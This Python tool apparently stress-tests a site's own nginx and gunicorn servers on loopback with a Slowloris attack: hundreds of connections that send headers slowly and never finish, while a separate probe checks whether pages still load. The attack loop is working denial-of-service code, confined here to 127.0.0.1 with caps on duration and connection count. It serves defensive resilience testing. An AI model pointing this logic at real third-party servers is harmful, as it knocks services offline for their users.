"""Slowloris against the site's own servers on loopback: many connections that send
their request headers a line at a time and never finish, while a probe asks for a page
every few seconds. It answers one question: can an ordinary visitor still get a page?

    python3 -m tools.slowloris --against nginx              # 253 slow TLS connections
    python3 -m tools.slowloris --against gunicorn --connections 16 --seconds 70

It starts the server itself (tools/servers.py: gunicorn with gunicorn.conf.py, or
gunicorn behind deploy/nginx.conf with a throwaway certificate, on free 127.0.0.1
ports), attacks only that, stops after --seconds and stops the servers by PID. A
connection the server closes is opened again at once, as a real attacker would.

Report: probes answered in time out of those sent, their slowest answer, and how many
slow connections the server closed (it freed the slot) and how many were open at the end.
"""
from __future__ import annotations

import argparse
import asyncio
import contextlib
import socket
import ssl
import statistics
import tempfile
import time
from concurrent.futures import ProcessPoolExecutor, ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

from tools import servers


@dataclass
class Tally:
    opened: int = 0
    closed_by_server: int = 0
    open_now: int = 0
    probes: list[float | None] = field(default_factory=list)  # seconds, None: no answer


async def _connect(port: int, tls: ssl.SSLContext | None, timeout: float):
    return await asyncio.wait_for(
        asyncio.open_connection("127.0.0.1", port, ssl=tls,
                                server_hostname="localhost" if tls else None), timeout)


async def slow_connection(number: int, port: int, tls, interval: float, deadline: float,
                          tally: Tally) -> None:
    """Send a request's headers one line every `interval` seconds, never the end."""
    while time.monotonic() < deadline:
        try:
            reader, writer = await _connect(port, tls, 10)
        except (TimeoutError, OSError):
            await asyncio.sleep(0.2)
            continue
        tally.opened += 1
        tally.open_now += 1
        closed = asyncio.ensure_future(reader.read(65536))  # b"" (or an error) when closed
        try:
            writer.write(f"GET /?slow={number} HTTP/1.1\r\nHost: localhost\r\n".encode())
            line = 0
            while time.monotonic() < deadline:
                await asyncio.wait([closed], timeout=min(interval, deadline - time.monotonic()))
                if closed.done():
                    tally.closed_by_server += 1
                    break
                line += 1
                writer.write(f"X-Slow-{line}: {line}\r\n".encode())
                await writer.drain()
        except (OSError, ssl.SSLError):
            tally.closed_by_server += 1
        finally:
            tally.open_now -= 1
            closed.cancel()
            writer.close()
            with contextlib.suppress(Exception):
                await asyncio.wait_for(writer.wait_closed(), 1)


def probe(port: int, cafile: str | None, path: str, timeout: float) -> float | None:
    """Seconds until a whole GET of `path` gets a 200 status line; None if not in time."""
    began = time.monotonic()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as raw:
            connection = raw
            if cafile:
                context = ssl.create_default_context(cafile=cafile)
                connection = context.wrap_socket(raw, server_hostname="localhost")
            connection.settimeout(max(timeout - (time.monotonic() - began), 0.01))
            connection.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\n"
                               "Connection: close\r\n\r\n".encode())
            status = connection.recv(12)
    except (OSError, ssl.SSLError):
        return None
    return time.monotonic() - began if status.startswith(b"HTTP/1.1 200") else None


def probes(port: int, cafile: str | None, path: str, delay: float, until: float,
           every: float, timeout: float) -> list[float | None]:
    """A probe every `every` seconds from `delay` to `until` (seconds from now), in a
    process of its own, so that the attack's work never delays the visitor it stands for."""
    started = time.monotonic()
    time.sleep(delay)
    results = []
    while time.monotonic() - started + timeout <= until:
        began = time.monotonic()
        results.append(probe(port, cafile, path, timeout))
        time.sleep(max(0.0, every - (time.monotonic() - began)))
    return results


async def attack(port: int, tls, connections: int, seconds: float, interval: float,
                 prober) -> Tally:
    tally = Tally()
    deadline = time.monotonic() + seconds
    slow = [asyncio.ensure_future(slow_connection(n, port, tls, interval, deadline, tally))
            for n in range(connections)]
    tally.probes = await asyncio.wrap_future(prober)
    open_at_end = tally.open_now
    await asyncio.wait(slow, timeout=max(0.0, deadline - time.monotonic()) + interval + 15)
    for task in slow:
        task.cancel()
    tally.open_now = open_at_end
    return tally


def run(against: str, connections: int, seconds: float, interval: float,
        probe_every: float, probe_timeout: float, path: str) -> Tally:
    with tempfile.TemporaryDirectory(prefix="slowloris-") as scratch, \
            contextlib.ExitStack() as stack:
        if against == "nginx":
            site = stack.enter_context(servers.tls_front(Path(scratch)))
            port, cafile = site["https_port"], site["cert"]
            tls = ssl.create_default_context(cafile=cafile)
        else:
            _, base = stack.enter_context(servers.gunicorn(Path(scratch) / "gunicorn.log"))
            port, cafile, tls = int(base.rsplit(":", 1)[1]), None, None
        pool = stack.enter_context(ProcessPoolExecutor(1))
        # The slow connections take their places for the first two seconds; then a probe
        # every probe_every seconds until the attack stops.
        prober = pool.submit(probes, port, cafile, path, min(2.0, seconds / 4), seconds,
                             probe_every, probe_timeout)
        # A thread of its own for the event loop: the caller may be running one (pytest
        # with Playwright's plugin does).
        with ThreadPoolExecutor(1) as thread:
            return thread.submit(asyncio.run, attack(port, tls, connections, seconds,
                                                     interval, prober)).result()


def report(against: str, connections: int, seconds: float, tally: Tally) -> str:
    answered = [t for t in tally.probes if t is not None]
    slowest = f", slowest {max(answered):.2f} s, median {statistics.median(answered):.2f} s" \
        if answered else ""
    return (f"{against}: {connections} slow connections for {seconds:g} s: "
            f"{len(answered)} of {len(tally.probes)} probes answered{slowest}; "
            f"{tally.opened} slow connections opened, {tally.closed_by_server} closed by the "
            f"server, {tally.open_now} open at the end")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--against", choices=("nginx", "gunicorn"), default="nginx")
    parser.add_argument("--connections", type=int, default=253)
    parser.add_argument("--seconds", type=float, default=36)
    parser.add_argument("--interval", type=float, default=5,
                        help="seconds between two header lines of a slow connection")
    parser.add_argument("--probe-every", type=float, default=3)
    parser.add_argument("--probe-timeout", type=float, default=3)
    parser.add_argument("--path", default="/healthz")
    args = parser.parse_args()
    if not 0 < args.seconds <= 600 or not 0 < args.connections <= 5000:
        parser.error("at most 600 seconds and 5,000 connections")
    tally = run(args.against, args.connections, args.seconds, args.interval,
                args.probe_every, args.probe_timeout, args.path)
    print(report(args.against, args.connections, args.seconds, tally))


if __name__ == "__main__":
    main()
